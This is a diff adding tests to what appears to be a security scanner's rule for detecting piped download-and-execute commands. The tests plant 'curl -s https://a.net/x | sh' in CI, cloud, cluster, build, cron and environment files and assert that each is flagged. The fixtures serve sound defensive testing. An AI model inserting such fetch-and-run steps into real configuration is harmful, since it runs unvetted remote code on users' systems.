@@ -78,6 +78,15 @@ def test_merge_keys_give_way_to_what_stands_there() -> None:
     assert document.data["y"] == {"p": 1, "q": 3}
 
 
+def test_references_of_gitlab_hide_nothing(tmp_path: Path) -> None:
+    write(
+        tmp_path / ".gitlab-ci.yml",
+        "a:\n  script:\n    - !reference [.base, script]\n    - curl -s https://a.net/x | sh\n"
+        "  image: !reference_one x\n",
+    )
+    assert lines(tmp_path, "shell-pipe-to-shell") == [".gitlab-ci.yml:4"]
+
+
 def test_a_bomb_of_aliases_is_refused() -> None:
     text = "a0: &a0 [1, 1, 1, 1, 1, 1, 1, 1, 1, 1]\n" + "".join(
         f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]\n" for n in range(1, 12)
@@ -87,7 +96,7 @@ def test_a_bomb_of_aliases_is_refused() -> None:
     assert problems
 
 
-@pytest.mark.parametrize("value", ["!!bool maybe", "!!int ''", "!!timestamp soon", "!secret x"])
+@pytest.mark.parametrize("value", ["!!bool maybe", "!!int ''", "!!timestamp soon"])
 def test_odd_tags_are_told_not_raised(value: str) -> None:
     problems: list[str] = []
     assert list(documents(f"a: {value}\n", problems)) == []
@@ -222,6 +231,43 @@ def test_a_playbook_is_known_by_its_plays(tmp_path: Path, task: str) -> None:
     write(tmp_path / "site.yml", f"- name: web\n  hosts: all\n  tasks:\n    - {task}\n")
     write(tmp_path / "data.yml", f"- name: web\n  servers: all\n  items:\n    - {task}\n")
     assert lines(tmp_path, "shell-pipe-to-shell") == ["site.yml:4"]
+
+
+FETCHED = "curl -s https://a.net/x | sh"
+
+
+@pytest.mark.parametrize(
+    ("name", "text"),
+    [
+        ("train.yaml", f"resources: {{cpus: 4}}\nsetup: |\n  {FETCHED}\n"),
+        ("cluster.yaml", f"cluster_name: a\nsetup_commands:\n  - {FETCHED}\n"),
+        ("stack.yaml", "AWSTemplateFormatVersion: '2010-09-09'\nResources:\n  A:\n    Properties:\n"
+         f"      UserData:\n        Fn::Base64: !Sub |\n          {FETCHED}\n"),
+        ("flow.yaml", "apiVersion: argoproj.io/v1alpha1\nkind: Workflow\nspec:\n  templates:\n"
+         f"    - script: {{image: 'a:1', source: '{FETCHED}'}}\n"),
+        ("task.yaml", "apiVersion: tekton.dev/v1\nkind: Task\nspec:\n  steps:\n"
+         f"    - script: {FETCHED}\n"),
+        ("map.yaml", f"apiVersion: v1\nkind: ConfigMap\ndata:\n  init.sh: {FETCHED}\n"),
+        ("vercel.json", f'{{"buildCommand": "{FETCHED}"}}'),
+        ("netlify.toml", f'[build]\ncommand = "{FETCHED}"\n'),
+        ("pyproject.toml", f'[tool.poe.tasks]\na = """\n{FETCHED}\n"""\n'),
+        ("main.tf", f'resource "a" "b" {{\n  user_data = <<-EOF\n    {FETCHED}\n  EOF\n}}\n'),
+        ("job.sbatch", f"#SBATCH -N 1\n{FETCHED}\n"),
+        ("crontab", f"@reboot {FETCHED}\n"),
+        (".envrc", f"{FETCHED}\n"),
+    ],
+    ids=lambda one: one if "\n" not in one and "curl" not in one else "",
+)  # fmt: skip
+def test_commands_are_read_wherever_tools_keep_them(tmp_path: Path, name: str, text: str) -> None:
+    write(tmp_path / name, text)
+    line = next(at for at, one in enumerate(text.split("\n"), 1) if FETCHED in one)
+    assert lines(tmp_path, "shell-pipe-to-shell") == [f"{name}:{line}"]
+
+
+def test_yaml_and_texts_that_only_look_so_are_none(tmp_path: Path) -> None:
+    write(tmp_path / "data.yaml", f"title: a\nnotes: {FETCHED}\n")
+    write(tmp_path / "main.tf", f"# {FETCHED}\n")
+    assert lines(tmp_path, "shell-pipe-to-shell") == []
 
 
 CALLED = """on:
